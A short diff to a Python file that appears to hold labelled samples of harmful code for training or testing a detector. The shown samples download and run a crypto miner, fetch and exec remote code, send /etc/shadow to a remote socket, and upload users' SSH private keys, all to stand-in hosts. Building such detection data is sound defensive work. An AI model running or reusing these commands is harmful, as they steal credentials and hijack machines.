@@ -367,6 +367,6 @@ CODE = (
     'os.system("wget http://pool.example/miner && chmod +x miner && ./miner --wallet " + wallet)',
     'exec(urllib.request.urlopen("http://load.example/p.py").read())',
     'data = open("/etc/shadow").read()\nsocket.create_connection(("drop.example", 4444)).sendall(data.encode())',
-    'import glob, requests\nfor path in glob.glob("/home/*/.ssh/id_*"):\n    requests.post("http://in.example", files={"f": open(path)})',
+    'import glob, requests\nfor path in glob.glob(os.path.expanduser("~/.ssh/id_*")):\n    requests.post("http://in.example", files={"f": open(path)})',
 )
-"""Code that does harm where it is run: first half fitted on, second half reported on."""
+"""Code that does harm where it is run: the first half is fitted on."""
